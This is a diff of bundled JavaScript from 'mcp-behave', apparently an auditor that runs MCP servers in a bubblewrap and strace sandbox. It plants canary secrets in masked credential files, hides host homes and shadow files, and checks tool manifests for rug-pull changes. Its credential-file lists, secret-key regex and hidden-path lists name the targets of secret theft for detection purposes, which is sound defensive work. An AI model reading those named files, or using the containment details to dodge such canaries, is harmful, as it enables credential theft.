+                const lastError = transport?.lastError;
+                const why = lastError ? `cannot reach the server: ${lastError}` : error.message;
+                throw new errors/* ProbeStartError */.d9(`${url}: ${why}`, '', null);
+            }
+            throw error;
+        }
+        probe = error.partial;
+        incomplete = 'interrupted before the audit finished';
+    }
+    if (!probe.shutdownAt)
+        probe.shutdownAt = Date.now();
+    const manifest = buildManifest(probe.listing, probe.instructions);
+    await (0,output_files/* writeOutputFile */.BF)(files.manifest, JSON.stringify(manifest, null, 2) + '\n');
+    const { identity } = settings;
+    const pinned = { stateDir: settings.stateDir, identity, manifest, accept: settings.acceptManifest, complete: !incomplete };
+    const { rugPull, pinError } = await rugPullOf({ ...pinned, listing: probe.listing, relisting: probe.relisting });
+    if (pinError)
+        logger.warn(`manifest pin: ${pinError}`);
+    // An empty profile: the rules that judge behaviour find nothing, the rug-pull rule still judges the surface.
+    const observed = new ProfileBuilder({
+        calls: [],
+        shutdownAt: probe.shutdownAt,
+        home: '/nonexistent',
+        cwd: settings.cwd,
+        canaries: [],
+        serverCodeRoots: [],
+        runtimeRoots: []
+    }).finish({
+        lines: 0,
+        events: 0,
+        unparsed: 0,
+        unparsedSamples: []
+    });
+    // Nothing is called, so only what kept the surface from being listed (a failed or cut listing) is a
+    // coverage gap: a remote server whose tools/list fails must not pass with an empty manifest.
+    const coverage = { items: [], gaps: probe.gaps };
+    const findings = [
+        ...evaluateRules({ observed, manifest, calls: probe.calls, policy: settings.policy, rugPull, home: '/nonexistent', cwd: settings.cwd }),
+        ...coverageFindings(coverage)
+    ];
+    const { exitCode } = (0,report_verdict/* decideVerdict */.AU)({ findings, failOn: settings.failOn, incomplete: incomplete ?? null, interrupted: runtime.signal?.aborted === true });
+    const report = {
+        schemaVersion: 1,
+        auditor: { name: 'mcp-behave', version: version/* AUDITOR_VERSION */.w },
+        server: {
+            command: [],
+            transport: settings.http.flavour,
+            url,
+            untraced: UNTRACED_REMOTE,
+            identity,
+            info: probe.serverInfo,
+            ...(probe.protocolVersion ? { protocolVersion: probe.protocolVersion } : {})
+        },
+        sandbox: { network: 'host', method: 'none', failOn: settings.failOn },
+        startedAt: new Date(started).toISOString(),
+        durationMs: Date.now() - started,
+        ...(incomplete ? { incomplete } : {}),
+        manifest,
+        calls: probe.calls,
+        coverage,
+        observed,
+        findings,
+        rugPull,
+        summary: (0,model/* summarize */.eh)(findings),
+        exitCode
+    };
+    await (0,output_files/* writeReportFile */.aS)(files.report, report, logger);
+    return { report, files };
+}
+
+;// CONCATENATED MODULE: ./src/sandbox/find-on-path.ts
+
+
+/**
+ * The first executable regular file named `name` in the directories of `path`, as `command -v` in a
+ * shell would find it, without starting one; null when there is none.
+ */
+function findOnPath(name, path) {
+    for (const dir of path.split(external_node_path_.delimiter)) {
+        if (!dir)
+            continue;
+        const candidate = (0,external_node_path_.join)(dir, name);
+        try {
+            (0,external_node_fs_.accessSync)(candidate, external_node_fs_.constants.X_OK);
+            if ((0,external_node_fs_.statSync)(candidate).isFile())
+                return candidate;
+        }
+        catch {
+            // next
+        }
+    }
+    return null;
+}
+
+;// CONCATENATED MODULE: ./src/probe/strace-command.ts
+
+
+
+// Files (including in-kernel copies and file handles, which read a file without opening it by name), network, processes and io_uring: what the profile needs and nothing more, so that
+// --seccomp-bpf can leave every other syscall untraced (measured here: ~2x overhead without it,
+// ~1.1x with it). A `?` prefix keeps strace quiet about syscalls an architecture lacks (open on arm64).
+const TRACED_SYSCALLS = [
+    '?open',
+    'openat',
+    '?openat2',
+    '?creat',
+    '?rename',
+    'renameat',
+    '?renameat2',
+    '?unlink',
+    'unlinkat',
+    '?rmdir',
+    '?mkdir',
+    'mkdirat',
+    '?truncate',
+    'ftruncate',
+    '?link',
+    'linkat',
+    '?symlink',
+    'symlinkat',
+    'chdir',
+    'fchdir',
+    '?sendfile',
+    '?sendfile64',
+    'splice',
+    'tee',
+    'copy_file_range',
+    'name_to_handle_at',
+    'open_by_handle_at',
+    'socket',
+    'connect',
+    'bind',
+    'sendto',
+    'sendmsg',
+    'sendmmsg',
+    'write',
+    'writev',
+    'execve',
+    'execveat',
+    'clone',
+    '?clone3',
+    '?fork',
+    '?vfork',
+    'setsid',
+    '?io_uring_setup'
+];
+/** Long enough for a whole DNS packet and a readable prefix of any payload. */
+const STRING_LIMIT = 4096;
+function buildStraceArgs(tracePath, info) {
+    return [
+        '-f',
+        '-ttt',
+        '-yy',
+        // -q, not -qq: the `+++ exited with N +++` / `+++ killed by SIG +++` lines say which processes
+        // outlived the server (see profile/leftovers.ts).
+        '-q',
+        '-s',
+        String(STRING_LIMIT),
+        ...(info.seccompBpf ? ['--seccomp-bpf'] : []),
+        ...(info.pidnsTranslation ? ['--pidns-translation'] : []),
+        '-e',
+        `trace=${TRACED_SYSCALLS.join(',')}`,
+        '-o',
+        tracePath
+    ];
+}
+const STRACE_HINT = 'Install strace (sudo apt-get install -y strace). In a container, strace needs ptrace: run with ' +
+    '--cap-add=SYS_PTRACE; on a host, check /proc/sys/kernel/yama/ptrace_scope.';
+// One probe per PATH and process: the audits of a fleet share it instead of each blocking the event loop
+// (which all of them share) with four synchronous runs.
+const detected = new Map();
+/** Finds strace on `searchPath` and whether it can filter with seccomp-bpf, by running it once on `true`. */
+function detectStrace(searchPath) {
+    const known = detected.get(searchPath);
+    if (known)
+        return known;
+    const info = probeStrace(searchPath);
+    detected.set(searchPath, info);
+    return info;
+}
+function probeStrace(searchPath) {
+    const path = findOnPath('strace', searchPath);
+    if (!path)
+        throw new errors/* SandboxSetupError */.Pr('strace was not found on PATH.', STRACE_HINT);
+    // One run asks for everything; only where it fails is each asked for alone, so the error says why.
+    const probe = (...flags) => (0,external_node_child_process_namespaceObject.spawnSync)(path, [...flags, '-f', '-qq', '-e', 'trace=openat', '-o', '/dev/null', 'true'], { stdio: 'ignore', timeout: 10_000 });
+    if (probe('--seccomp-bpf', '--pidns-translation').status === 0)
+        return { path, seccompBpf: true, pidnsTranslation: true };
+    const plain = (0,external_node_child_process_namespaceObject.spawnSync)(path, ['-f', '-qq', '-e', 'trace=openat', '-o', '/dev/null', 'true'], { encoding: 'utf8', timeout: 10_000 });
+    if (plain.status !== 0) {
+        throw new errors/* SandboxSetupError */.Pr(`strace cannot trace on this machine: ${(plain.stderr || '').trim().split('\n')[0] ?? ''}`, STRACE_HINT);
+    }
+    return { path, seccompBpf: probe('--seccomp-bpf').status === 0, pidnsTranslation: probe('--pidns-translation').status === 0 };
+}
+
+// EXTERNAL MODULE: ./src/sandbox/canary-home.ts
+var canary_home = __nccwpck_require__(8975);
+;// CONCATENATED MODULE: ./src/sandbox/containment-plan.ts
+
+
+// What the server sees of the machine, as plain data, and the bubblewrap command line that builds it.
+//
+// The view starts empty (bwrap's tmpfs root) and only what the server needs is mounted in: the system
+// directories read-only, a fresh /proc, a minimal /dev, private /tmp, /var/tmp and /dev/shm, the canary
+// home as the only home, and each workspace as a copy-on-write overlay at its real path. Everything else
+// of the host — real homes, /run and its daemon sockets, the runner's directories, the auditor's out-dir
+// and pin store, unusual top-level directories — simply does not exist in that view, so a read fails
+// with ENOENT and the attempt is still in the trace. The server runs in its own user namespace (as a
+// plausible uid 1000, no capabilities), pid namespace (it cannot see or signal strace, the auditor or
+// the sink) and session (no shared process group with the auditor).
+/** Top-level directories of the host that hold the system and are shown read-only. */
+const containment_plan_SYSTEM_DIRS = ['usr', 'bin', 'sbin', 'lib', 'lib32', 'lib64', 'libx32', 'etc', 'opt', 'var', 'srv', 'nix'];
+/** Where real users' files live: hidden, and a read there is an attempt on the host's secrets. */
+const HOST_HOME_ROOTS = ['/root', '/home'];
+/** Parts of /var that hold sockets, logs, container state or mail: hidden even though /var is shown. */
+const HIDDEN_VAR_DIRS = ['/var/run', '/var/log', '/var/lib/docker', '/var/lib/containerd', '/var/lib/kubelet', '/var/spool', '/var/mail', '/var/backups'];
+/**
+ * Whether the host's `path` shows in the server's view (before the hidden-path tmpfs mounts). The private
+ * temp dirs start empty: nothing of the host's /tmp shows through them.
+ */
+function isVisibleInPlan(plan, path) {
+    const shownRoots = plan.rootEntries.filter((entry) => containment_plan_SYSTEM_DIRS.includes(entry.name)).map((entry) => `/${entry.name}`);
+    const writable = [...plan.workspaces, plan.home].map((mount) => mount.path);
+    if ([...writable, ...plan.exposed].some((root) => isUnder(path, root)))
+        return true;
+    if (plan.hiddenVarDirs.some((dir) => isUnder(path, dir)))
+        return false;
+    return shownRoots.some((root) => isUnder(path, root));
+}
+/** The bwrap options that build the view; the server's argv follows a `--`. */
+function buildBwrapArgs(plan) {
+    const args = [
+        '--die-with-parent',
+        '--new-session',
+        '--unshare-user',
+        '--uid',
+        String(plan.identity.uid),
+        '--gid',
+        String(plan.identity.gid),
+        '--unshare-pid',
+        '--unshare-ipc',
+        '--unshare-uts',
+        '--unshare-cgroup-try',
+        '--hostname',
+        plan.identity.hostname,
+        '--cap-drop',
+        'ALL'
+    ];
+    for (const entry of plan.rootEntries) {
+        if (!containment_plan_SYSTEM_DIRS.includes(entry.name))
+            continue;
+        if (entry.kind === 'dir')
+            args.push('--ro-bind', `/${entry.name}`, `/${entry.name}`);
+        else if (entry.kind === 'symlink' && entry.target !== undefined)
+            args.push('--symlink', entry.target, `/${entry.name}`);
+    }
+    args.push('--proc', '/proc', '--dev', '/dev');
+    if (plan.rootEntries.some((entry) => entry.name === 'sys' && entry.kind === 'dir'))
+        args.push('--ro-bind', '/sys', '/sys');
+    args.push('--tmpfs', '/run', '--tmpfs', '/home');
+    for (const dir of plan.hiddenVarDirs)
+        args.push('--tmpfs', dir);
+    for (const mount of plan.privateDirs)
+        args.push('--bind', mount.source, mount.path);
+    for (const path of plan.exposed)
+        args.push('--ro-bind', path, path);
+    for (const mount of plan.workspaces)
+        args.push('--bind', mount.source, mount.path);
+    args.push('--bind', plan.home.source, plan.home.path);
+    // Hidden last, so an out-dir inside a workspace is covered too; places the view does not show at all
+    // need no mount (bwrap would create an empty directory named after them, which a server could notice).
+    for (const path of plan.hidden)
+        if (isVisibleInPlan(plan, path))
+            args.push('--tmpfs', path);
+    for (const mount of plan.maskedFiles)
+        args.push('--ro-bind', mount.source, mount.path);
+    args.push('--chdir', plan.cwd);
+    return args;
+}
+/**
+ * Read-only exposures a program at `file` needs when it sits under a hidden place: the install prefix
+ * of an interpreter (`~/.pyenv` for a pyenv shim, `~/.nvm/versions/node/v20` for node), i.e. the
+ * directory above its `bin`.
+ */
+function installPrefixOf(file) {
+    const dir = external_node_path_.posix.dirname(file);
+    return external_node_path_.posix.basename(dir) === 'bin' || external_node_path_.posix.basename(dir) === 'shims' ? external_node_path_.posix.dirname(dir) : dir;
+}
+/** Drops entries of `paths` that lie under another entry, and duplicates. */
+function outermost(paths) {
+    const sorted = [...new Set(paths)].sort((a, b) => a.length - b.length || (a < b ? -1 : 1));
+    const kept = [];
+    for (const path of sorted)
+        if (!kept.some((root) => isUnder(path, root)))
+            kept.push(path);
+    return kept;
+}
+
+;// CONCATENATED MODULE: ./src/sandbox/workspace-view.ts
+
+
+
+
+const CREDENTIAL_FILES = new Set(['.git-credentials', '.npmrc', '.pypirc', '.env']);
+const SKIP_DIRS = new Set(['node_modules', '.git', '.venv', 'venv', '__pycache__', '.tox', 'dist', 'build']);
+const workspace_view_MAX_DEPTH = 3;
+const MAX_CREDENTIAL_FILE_BYTES = 256 * 1024;
+const SECRET_KEY = /(key|token|secret|passw|pwd|auth|credential|private|session|cookie|dsn|api)/i;
+const URL_USERINFO = /(\b[a-z][a-z0-9+.-]*:\/\/)[^/@\s:]+:[^/@\s]+@/gi;
+const URL_PASSWORD = /(\b[a-z][a-z0-9+.-]*:\/\/[^/@\s:]+:)([^/@\s]+)(@)/gi;
+const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
+/** A fresh random value (base62) that becomes a canary. */
+function freshSecret(length, random = external_node_crypto_.randomBytes) {
+    let out = '';
+    while (out.length < length) {
+        for (const byte of random(length * 2)) {
+            if (byte < 248 && out.length < length)
+                out += BASE62[byte % 62];
+        }
+    }
+    return out;
+}
+/**
+ * `.git/config` without credentials: `extraheader` keys (the persisted checkout token), whole
+ * `[credential]` sections (helpers that hand out tokens), and user:password in URLs. Null when there
+ * was nothing to mask.
+ */
+function maskGitConfig(text) {
+    const out = [];
+    let inCredentialSection = false;
+    for (const line of text.split('\n')) {
+        const header = /^\s*\[\s*([A-Za-z0-9.-]+)/.exec(line);
+        if (header)
+            inCredentialSection = header[1].toLowerCase() === 'credential';
+        if (inCredentialSection)
+            continue;
+        const key = /^\s*([A-Za-z0-9-]+)\s*(=|$)/.exec(line)?.[1]?.toLowerCase();
+        if (key === 'extraheader')
+            continue;
+        out.push(line.replace(URL_USERINFO, '$1'));
+    }
+    const masked = out.join('\n');
+    return masked === text ? null : masked;
+}
+/**
+ * A credential file of the checkout with every secret-looking value replaced by a canary. Keys,
+ * comments and harmless settings (a registry URL, PORT=3000) stay, so the server still works.
+ */
+function maskCredentialFile(name, text, id, secret, canaries) {
+    const plant = (value) => {
+        const planted = secret();
+        canaries.push({ id, value: planted });
+        // Keep a recognizable shape (a token prefix such as ghp_/npm_) without keeping the value.
+        const prefix = /^(ghp_|ghs_|gho_|npm_|sk-|xox[bp]-)/.exec(value)?.[1] ?? '';
+        return prefix + planted;
+    };
+    const plantUrlPasswords = (line) => line.replace(URL_PASSWORD, (_, head, value, at) => head + plant(value) + at);
+    if (name === '.git-credentials')
+        return plantUrlPasswords(text);
+    return text
+        .split('\n')
+        .map((line) => {
+        const trimmed = line.trimStart();
+        if (trimmed === '' || trimmed.startsWith('#') || trimmed.startsWith(';'))
+            return line;
+        // KEY=VALUE (.env, .npmrc — whose keys contain ':'), or `password: x` in .pypirc
+        const equals = line.indexOf('=');
+        const at = equals >= 0 ? equals : name === '.pypirc' ? line.indexOf(':') : -1;
+        if (at <= 0)
+            return plantUrlPasswords(line);
+        const key = line
+            .slice(0, at)
+            .replace(/^\s*export\s+/, '')
+            .trim();
+        const rawValue = line.slice(at + 1);
+        const value = rawValue.trim().replace(/^(['"])(.*)\1$/, '$2');
+        if (value === '' || !SECRET_KEY.test(key))
+            return plantUrlPasswords(line);
+        const lead = /^\s*/.exec(rawValue)?.[0] ?? '';
+        return `${line.slice(0, at + 1)}${lead}${plant(value)}`;
+    })
+        .join('\n');
+}
+async function findCredentialFiles(root) {
+    // Walked together, listed in the order a walk one entry at a time would find them.
+    const walk = async (dir, depth) => {
+        let entries;
+        try {
+            entries = await (0,promises_.readdir)(dir, { withFileTypes: true });
+        }
+        catch {
+            return [];
+        }
+        const found = await Promise.all(entries.map(async (entry) => {
+            const path = (0,external_node_path_.join)(dir, entry.name);
+            if (entry.isFile() && CREDENTIAL_FILES.has(entry.name))
+                return [path];
+            if (entry.isDirectory() && depth < workspace_view_MAX_DEPTH && !SKIP_DIRS.has(entry.name))
+                return walk(path, depth + 1);
+            return [];
+        }));
+        return found.flat();
+    };
+    return walk(root, 0);
+}
+const sha256 = (data) => (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
+async function place(view, relativePath, content) {
+    const target = (0,external_node_path_.join)(view.upper, relativePath);
+    await (0,promises_.mkdir)((0,external_node_path_.dirname)(target), { recursive: true });
+    await (0,promises_.writeFile)(target, content, { mode: 0o600, flag: 'wx' });
+    view.placed.set(relativePath, sha256(content));
+    view.masked.push(relativePath);
+}
+/**
+ * Makes the upper/work/merged directories of one workspace under `scratch` and places the masked
+ * credential files in the upper layer. Canaries planted in the masks are appended to `canaries`.
+ */
+async function prepareWorkspaceView(lower, scratch, canaries, secret = () => freshSecret(40)) {
+    const view = {
+        lower,
+        upper: (0,external_node_path_.join)(scratch, 'upper'),
+        work: (0,external_node_path_.join)(scratch, 'work'),
+        merged: (0,external_node_path_.join)(scratch, 'merged'),
+        placed: new Map(),
+        masked: []
+    };
+    const gitConfig = (0,external_node_path_.join)(lower, '.git', 'config');
+    const [gitStats, credentialFiles] = await (0,settle_all/* settleAll */.j)([
+        (0,promises_.lstat)(gitConfig).catch(() => null),
+        findCredentialFiles(lower),
+        ...[view.upper, view.work, view.merged].map((dir) => (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 }))
+    ]);
+    if (gitStats?.isFile() && gitStats.size <= MAX_CREDENTIAL_FILE_BYTES) {
+        const masked = maskGitConfig(await (0,promises_.readFile)(gitConfig, 'utf8'));
+        if (masked !== null)
+            await place(view, '.git/config', masked);
+    }
+    for (const path of credentialFiles) {
+        const stats = await (0,promises_.lstat)(path);
+        if (stats.size > MAX_CREDENTIAL_FILE_BYTES)
+            continue;
+        const relativePath = (0,external_node_path_.relative)(lower, path);
+        const name = relativePath.split('/').pop();
+        await place(view, relativePath, maskCredentialFile(name, await (0,promises_.readFile)(path, 'utf8'), `./${relativePath}`, secret, canaries));
+    }
+    return view;
+}
+/**
+ * Copies the tree at `seed` into the view's upper layer under `under` (relative to the real directory),
+ * skipping every path the real directory already has: the server sees a workspace worth working on, the
+ * user's files win, and nothing reaches the real directory. Each placed file and directory is recorded
+ * in `placed` ('' for directories), so only the server's changes to them are reported.
+ */
+async function seedView(view, seed, under) {
+    // Listed and read together, then written together: a directory's parents are made with it.
+    const walk = async (rel) => {
+        const entries = await (0,promises_.readdir)((0,external_node_path_.join)(seed, rel), { withFileTypes: true });
+        const listed = await (0,settle_all/* settleAll */.j)(entries.map(async (entry) => {
+            const inSeed = (0,external_node_path_.join)(rel, entry.name);
+            const target = (0,external_node_path_.join)(under, inSeed);
+            const lowerStats = await (0,promises_.lstat)((0,external_node_path_.join)(view.lower, target)).catch(() => null);
+            if (entry.isDirectory()) {
+                const own = lowerStats === null ? [{ target, content: null }] : [];
+                return lowerStats === null || lowerStats.isDirectory() ? [...own, ...(await walk(inSeed))] : own;
+            }
+            if (entry.isFile() && lowerStats === null)
+                return [{ target, content: await (0,promises_.readFile)((0,external_node_path_.join)(seed, inSeed)) }];
+            return [];
+        }));
+        return listed.flat();
+    };
+    const placed = await walk('');
+    const dirs = new Set(placed.map(({ target, content }) => (0,external_node_path_.join)(view.upper, content === null ? target : (0,external_node_path_.dirname)(target))));
+    await (0,settle_all/* settleAll */.j)([...dirs].map((dir) => (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 })));
+    await (0,settle_all/* settleAll */.j)(placed.flatMap(({ target, content }) => (content === null ? [] : [(0,promises_.writeFile)((0,external_node_path_.join)(view.upper, target), content, { mode: 0o644, flag: 'wx' })])));
+    for (const { target, content } of placed)
+        view.placed.set(target, content === null ? '' : sha256(content));
+}
+
+;// CONCATENATED MODULE: ./src/sandbox/containment.ts
+
+
+
+
+
+
+
+
+
+// Prepares, as the auditor, everything the sandbox init and bwrap need to show the server its view of
+// the machine (see containment-plan.ts for what that view is), and what the later stages need to judge
+// and report it: which host places were hidden, where the server could write, where its changes are.
+const USER_NAMES = ['alex', 'sam', 'jordan', 'taylor', 'casey', 'morgan', 'jamie', 'riley', 'chris', 'dana', 'lee', 'robin'];
+const HOST_NAMES = ['devbox', 'workstation', 'laptop', 'dev-laptop', 'thinkpad', 'ubuntu', 'desktop', 'build-box', 'dev-vm'];
+const SERVER_UID = 1000;
+/** Root-only files of the host shown empty: under root and sudo the server's uid maps to root's. */
+const MASKED_EMPTY = ['/etc/shadow', '/etc/shadow-', '/etc/gshadow', '/etc/gshadow-', '/etc/sudoers'];
+/** The auditor's runtime directories on a GitHub runner, beside RUNNER_TEMP. */
+const RUNNER_ENV_DIRS = ['RUNNER_TEMP', 'RUNNER_WORKSPACE'];
+/** A plausible user and machine name, different per run: nothing the server sees names the auditor. */
+function pickIdentity(pick = external_node_crypto_.randomInt) {
+    const user = USER_NAMES[pick(USER_NAMES.length)];
+    const host = HOST_NAMES[pick(HOST_NAMES.length)];
+    return { user, hostname: pick(2) === 0 ? `${user}-${host}` : host };
+}
+const BWRAP_HINT = 'Filesystem containment needs bubblewrap: sudo apt-get install -y bubblewrap. ' +
+    'Pass --fs host (action input fs: host) to audit without it — the server then sees and can change the real filesystem.';
+const bwrapPaths = new Map();
+/** Found once per PATH and process: a fleet's audits share it. */
+function findBwrap(key) {
+    const known = bwrapPaths.get(key);
+    if (known)
+        return known;
+    const path = findOnPath('bwrap', key);
+    if (!path)
+        throw new errors/* SandboxSetupError */.Pr('bwrap (bubblewrap) was not found on PATH.', BWRAP_HINT);
+    bwrapPaths.set(key, path);
+    return path;
+}
+async function rootEntries() {
+    const entries = await (0,settle_all/* settleAll */.j)((await (0,promises_.readdir)('/')).sort().map(async (name) => {
+        const stats = await (0,promises_.lstat)(`/${name}`).catch(() => null);
+        if (!stats)
+            return null;
+        if (stats.isSymbolicLink())
+            return { name, kind: 'symlink', target: await (0,promises_.readlink)(`/${name}`) };
+        return { name, kind: stats.isDirectory() ? 'dir' : 'other' };
+    }));
+    return entries.filter((entry) => entry !== null);
+}
+async function isDirectory(path) {
+    return (await (0,promises_.lstat)(path).catch(() => null))?.isDirectory() ?? false;
+}
+async function exists(path) {
+    return (await (0,promises_.lstat)(path).catch(() => null)) !== null;
+}
+/** Overlay options are comma- and colon-separated: such paths cannot be layers. */
+function checkLayerPath(path) {
+    if (/[,:\n]/.test(path))
+        throw new errors/* ConfigurationError */.j1(`cannot show ${path} copy-on-write: the path contains ',' or ':' (use --fs host to audit without containment)`);
+}
+/**
+ * Why `root` must not be a workspace, or null. A workspace is shown whole (copy-on-write): one that is a
+ * home or holds one (`/`, `/home`, `~`) would show the real ~/.ssh and ~/.aws the sandbox exists to hide.
+ */
+function unsafeWorkspace(root, callerHome) {
+    if (root === '/')
+        return 'it is the whole filesystem';
+    if (HOST_HOME_ROOTS.some((home) => isUnder(home, root)))
+        return 'it holds the real homes';
+    if (/^\/home\/[^/]+$/.test(root))
+        return 'it is a real home';
+    if (callerHome && callerHome !== '/' && isUnder(callerHome, root))
+        return 'it is (or holds) your home';
+    return null;
+}
+/** passwd/group with the server's user as uid/gid 1000, and the host's other entries. */
+function withUser(file, line, id, name) {
+    const kept = file.split('\n').filter((entry) => {
+        const fields = entry.split(':');
+        return entry !== '' && fields[0] !== name && fields[2] !== String(id);
+    });
+    return [...kept, line, ''].join('\n');
+}
+/** Relative directories bwrap creates under `area` to mount `targets` there (each target and its parents). */
+function mountPointsUnder(area, targets) {
+    const out = new Set();
+    for (const target of targets) {
+        if (!target.startsWith(`${area}/`))
+            continue;
+        const parts = target.slice(area.length + 1).split('/');
+        for (let i = 1; i <= parts.length; i++)
+            out.add(parts.slice(0, i).join('/'));
+    }
+    return out;
+}
+/**
+ * Prepares the view. Independent steps run together; `late` is called once everything that does not
+ * need its answer is made, so the seed and the trust bundle can be made meanwhile.
+ */
+async function prepareContainment(input, late = async () => ({})) {
+    const bwrap = findBwrap(input.callerEnv.PATH ?? '');
+    const identity = input.identity ?? pickIdentity();
+    const home = `/home/${identity.user}`;
+    const scratch = (name) => (0,external_node_path_.join)(input.runDir, name);
+    // Workspaces: the working directory, directories the user named, and directories the command
+    // names as arguments (a filesystem server's allowed roots). Nested ones share their outer view.
+    const argPaths = await (0,settle_all/* settleAll */.j)(input.argv.slice(1).map(async (arg) => {
+        if (!arg.startsWith('/') && !arg.startsWith('.')) {
+            if (!(await exists((0,external_node_path_.resolve)(input.cwd, arg))))
+                return null;
+        }
+        const path = await (0,promises_.realpath)((0,external_node_path_.resolve)(input.cwd, arg)).catch(() => null);
+        if (path === null || path === '/')
+            return null;
+        return { path, directory: await isDirectory(path) };
+    }));
+    const argDirs = argPaths.flatMap((arg) => (arg?.directory ? [arg.path] : []));
+    const codeFiles = argPaths.flatMap((arg) => (arg && !arg.directory ? [arg.path] : []));
+    const workspaceRoots = outermost([input.cwd, ...input.workspaces, ...argDirs]);
+    for (const root of workspaceRoots) {
+        checkLayerPath(root);
+        const unsafe = unsafeWorkspace(root, input.callerEnv.HOME);
+        if (unsafe)
+            throw new errors/* ConfigurationError */.j1(`cannot show ${root} to the server as its workspace: ${unsafe}. Pass --cwd (or working-directory) with the server's own directory.`);
+        if (input.outDir === root)
+            throw new errors/* ConfigurationError */.j1(`the output directory cannot be the server's workspace: ${root}`);
+    }
+    const homeView = { lower: input.plantedHome, upper: scratch('home/upper'), work: scratch('home/work'), merged: scratch('home/merged') };
+    const privateDirs = [
+        { source: scratch('tmp'), path: '/tmp' },
+        { source: scratch('var-tmp'), path: '/var/tmp' },
+        { source: scratch('shm'), path: '/dev/shm' }
+    ];
+    const etc = scratch('etc');
+    const mask = async (path, content) => {
+        const source = (0,external_node_path_.join)(etc, path.replace(/\//g, '_'));
+        await (0,promises_.writeFile)(source, content, { mode: 0o644 });
+        return { source, path };
+    };
+    const masks = async () => {
+        await (0,promises_.mkdir)(etc, { mode: 0o755 });
+        const [passwd, group, hostname, empty, hostKeys] = await (0,settle_all/* settleAll */.j)([
+            (0,promises_.readFile)('/etc/passwd', 'utf8')
+                .catch(() => '')
+                .then((text) => mask('/etc/passwd', withUser(text, `${identity.user}:x:${SERVER_UID}:${SERVER_UID}:${identity.user}:${home}:/bin/bash`, SERVER_UID, identity.user))),
+            (0,promises_.readFile)('/etc/group', 'utf8')
+                .catch(() => '')
+                .then((text) => mask('/etc/group', withUser(text, `${identity.user}:x:${SERVER_UID}:`, SERVER_UID, identity.user))),
+            exists('/etc/hostname').then(async (found) => (found ? [await mask('/etc/hostname', `${identity.hostname}\n`)] : [])),
+            (0,settle_all/* settleAll */.j)(MASKED_EMPTY.map(async (path) => ((await exists(path)) ? [await mask(path, '')] : []))),
+            (0,promises_.readdir)('/etc/ssh')
+                .catch(() => [])
+                .then((names) => (0,settle_all/* settleAll */.j)(names.filter((name) => /^ssh_host_.*_key$/.test(name)).map((name) => mask(`/etc/ssh/${name}`, ''))))
+        ]);
+        return { system: [passwd, group, ...hostname, ...empty.flat()], hostKeys };
+    };
+    // Each workspace's masks plant their own canaries, added in the workspaces' order.
+    const viewCanaries = workspaceRoots.map(() => []);
+    const [views, , , etcMasks, entries, hiddenVarDirs] = await (0,settle_all/* settleAll */.j)([
+        (0,settle_all/* settleAll */.j)(workspaceRoots.map((root, index) => prepareWorkspaceView(root, scratch(`ws${index}`), viewCanaries[index]))),
+        (0,settle_all/* settleAll */.j)([homeView.upper, homeView.work, homeView.merged].map((dir) => (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 }))),
+        (0,settle_all/* settleAll */.j)(privateDirs.map(async (mount) => {
+            await (0,promises_.mkdir)(mount.source, { mode: 0o1777 });
+            await (0,promises_.chmod)(mount.source, 0o1777);
+        })),
+        masks(),
+        rootEntries(),
+        (0,settle_all/* settleAll */.j)(HIDDEN_VAR_DIRS.map(async (dir) => ((await isDirectory(dir)) ? [dir] : []))).then((found) => found.flat())
+    ]);
+    input.canaries.push(...viewCanaries.flat());
+    const workspaces = views.map((view) => ({ source: view.merged, path: view.lower }));
+    const draft = { rootEntries: entries, hiddenVarDirs, exposed: [], workspaces, home: { source: homeView.merged, path: home }, privateDirs };
+    // What the server's own program needs from places the view does not show: an interpreter under a
+    // home (~/.pyenv, ~/.nvm), the script's directory, and the node_modules and package.json files above
+    // it that Node resolves through. Read-only.
+    const executable = input.argv[0];
+    const wanted = [...(input.readOnly ?? [])];
+    for (const program of new Set([executable, await (0,promises_.realpath)(executable).catch(() => executable)]))
+        wanted.push(installPrefixOf(program));
+    for (const file of codeFiles) {
+        wanted.push((0,external_node_path_.dirname)(file));
+        for (let dir = (0,external_node_path_.dirname)(file); dir !== '/'; dir = (0,external_node_path_.dirname)(dir))
+            wanted.push((0,external_node_path_.join)(dir, 'node_modules'), (0,external_node_path_.join)(dir, 'package.json'));
+    }
+    // `/` would be a read-only bind of the whole host (a program in /bin has `/` as its install prefix)
+    const needed = await (0,settle_all/* settleAll */.j)(wanted.map(async (path) => (path === '/' || isVisibleInPlan(draft, path) || !(await exists(path)) ? [] : [path])));
+    draft.exposed = outermost(needed.flat());
+    for (const path of draft.exposed)
+        checkLayerPath(path);
+    const { seed, maskedFiles: lateMasks = [] } = await late();
+    const cwdView = views.find((view) => isUnder(input.cwd, view.lower));
+    if (seed !== undefined && cwdView)
+        await seedView(cwdView, seed, (0,external_node_path_.relative)(cwdView.lower, input.cwd));
+    const maskedFiles = [...etcMasks.system, ...lateMasks, ...etcMasks.hostKeys];
+    const runnerDirs = RUNNER_ENV_DIRS.map((name) => input.callerEnv[name]).filter((dir) => Boolean(dir && dir.startsWith('/')));
+    const hidden = outermost([input.outDir, input.stateDir, ...runnerDirs].map((path) => external_node_path_.posix.normalize(path))).filter(
+    // The workspace itself may sit under RUNNER_WORKSPACE; hiding that would hide the workspace.
+    (path) => !workspaceRoots.some((root) => isUnder(root, path)));
+    const plan = {
+        ...draft,
+        maskedFiles,
+        hidden,
+        cwd: input.cwd,
+        identity: { uid: SERVER_UID, gid: SERVER_UID, hostname: identity.hostname }
+    };
+    const visiblePath = (input.callerEnv.PATH ?? '')
+        .split(external_node_path_.delimiter)
+        .filter((dir) => dir.startsWith('/') && isVisibleInPlan(plan, dir) && !hidden.some((root) => isUnder(dir, root)));
+    return {
+        bwrap,
+        bwrapArgs: buildBwrapArgs(plan),
+        overlays: [...views, homeView].map(({ lower, upper, work, merged }) => ({ lower, upper, work, merged })),
+        identity,
+        home,
+        path: [...new Set(visiblePath)].join(external_node_path_.delimiter) || '/usr/local/bin:/usr/bin:/bin',
+        hiddenRoots: outermost([...HOST_HOME_ROOTS, '/run', ...hiddenVarDirs, ...hidden]),
+        auditorPaths: hidden,
+        writableRoots: [...workspaceRoots, home, ...privateDirs.map((mount) => mount.path)],
+        changeAreas: [
+            ...views.map((view) => ({ dir: view.upper, shownAt: view.lower, lower: view.lower, placed: view.placed })),
